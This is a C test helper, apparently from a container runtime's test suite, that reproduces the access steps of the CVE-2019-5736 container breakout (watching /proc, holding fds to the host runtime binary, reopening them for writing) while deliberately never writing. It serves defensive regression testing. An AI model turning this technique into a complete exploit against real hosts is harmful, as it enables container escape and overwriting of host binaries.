/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* exe-opener: the CVE-2019-5736 attacker, run as root inside a container. It never writes to
 * anything it opens: an open(O_WRONLY) that succeeds is reported and closed at once.
 *
 *   exe-opener probe PID DEV INO
 *       readlink/open(O_PATH)/open(O_RDONLY)/open(O_WRONLY) on /proc/PID/exe; one line each,
 *       "OK" (with "runtime" if the file is DEV:INO, the host's runtime binary) or the errno.
 *
 *   exe-opener watch DEV INO DONEFILE [FIFO]
 *       Scan /proc in a loop until DONEFILE exists (at most 120 s). Every process whose exe is
 *       the runtime binary (DEV:INO, seen through fstat) and can be opened is reported
 *       ("GRABBED pid=N ro=0|1", ro=1 when the binary sits on a read-only mount) and an O_PATH
 *       fd to it kept; open(O_WRONLY) on /proc/N/exe is tried
 *       too ("WRONLY-DIRECT"). Once something is grabbed, FIFO is opened for reading so that a
 *       runtime blocked writing its log there can go on and exit. After DONEFILE appears, for
 *       up to 3 s, try to reopen each kept fd through /proc/self/fd/K with O_WRONLY, which is
 *       how the host binary gets overwritten once the runtime has exited ("WRONLY-REOPEN OK").
 *       Ends with "SUMMARY grabbed=G direct=D reopen=R". */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <time.h>
#include <unistd.h>

static const char *ename(int e)
{
        const char *n = strerrorname_np(e);
        return n ? n : "E?";
}

static unsigned long long want_dev, want_ino;

static int is_runtime(int fd)
{
        struct stat st;
        return fstat(fd, &st) == 0 && (unsigned long long)st.st_dev == want_dev &&
               (unsigned long long)st.st_ino == want_ino;
}

static int probe(const char *pid)
{
        char p[64], buf[4096];
        static const struct {
                const char *name;
                int flags;
        } modes[] = {
                {"O_PATH", O_PATH},
                {"O_RDONLY", O_RDONLY},
                {"O_WRONLY", O_WRONLY},
        };
        snprintf(p, sizeof(p), "/proc/%s/exe", pid);
        ssize_t k = readlink(p, buf, sizeof(buf) - 1);
        if (k >= 0) {
                buf[k] = 0;
                printf("readlink: OK %s\n", buf);
        } else
                printf("readlink: %s\n", ename(errno));
        for (size_t i = 0; i < sizeof(modes) / sizeof(modes[0]); i++) {
                int fd = open(p, modes[i].flags | O_CLOEXEC);
                if (fd >= 0) {
                        printf("%s: OK%s\n", modes[i].name, is_runtime(fd) ? " runtime" : "");
                        close(fd);
                } else
                        printf("%s: %s\n", modes[i].name, ename(errno));
        }
        return 0;
}

#define MAX_KEEP 64

static int watch(const char *donefile, const char *fifo)
{
        int kept[MAX_KEEP], n_kept = 0, direct = 0, reopen = 0, grabbed = 0, fifo_fd = -1;
        pid_t seen[MAX_KEEP];
        pid_t self = getpid();
        time_t end = time(NULL) + 120;
        unsigned long scans = 0;

        setvbuf(stdout, NULL, _IOLBF, 0);
        while (access(donefile, F_OK) != 0 && time(NULL) < end) {
                DIR *d = opendir("/proc");
                struct dirent *de;
                if (!d)
                        return 1;
                scans++;
                while ((de = readdir(d))) {
                        char p[64];
                        pid_t pid = (pid_t)atoi(de->d_name);
                        if (pid <= 0 || pid == self)
                                continue;
                        snprintf(p, sizeof(p), "/proc/%d/exe", (int)pid);
                        int fd = open(p, O_PATH | O_CLOEXEC);
                        if (fd < 0)
                                continue;
                        if (!is_runtime(fd)) {
                                close(fd);
                                continue;
                        }
                        int known = 0;
                        for (int i = 0; i < n_kept; i++)
                                known |= seen[i] == pid;
                        if (!known) {
                                char cmd[256] = "";
                                grabbed++;
                                snprintf(p, sizeof(p), "/proc/%d/cmdline", (int)pid);
                                int c = open(p, O_RDONLY | O_CLOEXEC);
                                ssize_t k = c >= 0 ? read(c, cmd, sizeof(cmd) - 1) : -1;
                                for (ssize_t j = 0; j < k; j++)
                                        if (!cmd[j])
                                                cmd[j] = ' ';
                                if (c >= 0)
                                        close(c);
                                struct statvfs sv;
                                int ro = fstatvfs(fd, &sv) == 0 && (sv.f_flag & ST_RDONLY);
                                printf("GRABBED pid=%d ro=%d cmdline=%s\n", (int)pid, ro, cmd);
                                snprintf(p, sizeof(p), "/proc/%d/exe", (int)pid);
                        }
                        int w = open(p, O_WRONLY | O_CLOEXEC);
                        if (w >= 0) {
                                direct++;
                                printf("WRONLY-DIRECT pid=%d\n", (int)pid);
                                close(w);
                        }
                        if (!known && n_kept < MAX_KEEP) {
                                seen[n_kept] = pid;
                                kept[n_kept++] = fd;
                        } else
                                close(fd);
                }
                closedir(d);
                if (fifo && grabbed && fifo_fd < 0)
                        fifo_fd = open(fifo, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
                if (fifo_fd >= 0) {
                        char buf[4096];
                        while (read(fifo_fd, buf, sizeof(buf)) > 0)
                                ;
                }
        }
        /* The runtime has exited by now: a kept fd that reopens for writing is the breakout. */
        for (int i = 0; i < n_kept; i++) {
                int last = 0;
                for (int t = 0; t < 300; t++) {
                        char p[64];
                        snprintf(p, sizeof(p), "/proc/self/fd/%d", kept[i]);
                        int w = open(p, O_WRONLY | O_CLOEXEC);
                        if (w >= 0) {
                                close(w);
                                reopen++;
                                last = 0;
                                printf("WRONLY-REOPEN OK pid=%d\n", (int)seen[i]);
                                break;
                        }
                        last = errno;
                        if (last != ETXTBSY)
                                break;
                        usleep(10000);
                }
                if (last)
                        printf("WRONLY-REOPEN %s pid=%d\n", ename(last), (int)seen[i]);
                close(kept[i]);
        }
        printf("SUMMARY grabbed=%d direct=%d reopen=%d scans=%lu\n", grabbed, direct, reopen, scans);
        return 0;
}

int main(int argc, char **argv)
{
        if (argc == 5 && !strcmp(argv[1], "probe")) {
                want_dev = strtoull(argv[3], NULL, 10);
                want_ino = strtoull(argv[4], NULL, 10);
                return probe(argv[2]);
        }
        if ((argc == 5 || argc == 6) && !strcmp(argv[1], "watch")) {
                want_dev = strtoull(argv[2], NULL, 10);
                want_ino = strtoull(argv[3], NULL, 10);
                return watch(argv[4], argc == 6 ? argv[5] : NULL);
        }
        fprintf(stderr, "usage: exe-opener probe PID DEV INO | watch DEV INO DONEFILE [FIFO]\n");
        return 2;
}
